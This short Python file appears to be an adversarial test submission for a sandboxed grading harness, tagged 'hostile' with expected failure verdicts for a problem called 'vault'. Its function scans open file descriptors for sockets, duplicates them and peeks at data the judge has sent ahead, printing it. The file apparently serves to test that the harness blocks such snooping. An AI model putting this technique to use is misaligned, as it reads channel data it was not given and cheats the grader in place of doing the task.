# /// hostile
# verdicts = ["wrong_answer", "runtime_error", "time_limit"]
# danger = "Steals from the channel whatever has been sent ahead."
# problem = "vault"
# ///
import os
import select
import socket
import stat


def f(x):
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                twin = socket.socket(fileno=os.dup(fd))
                twin.setblocking(False)
                print("ahead:", twin.recv(1 << 20, socket.MSG_PEEK))
        except OSError:
            continue
    return x
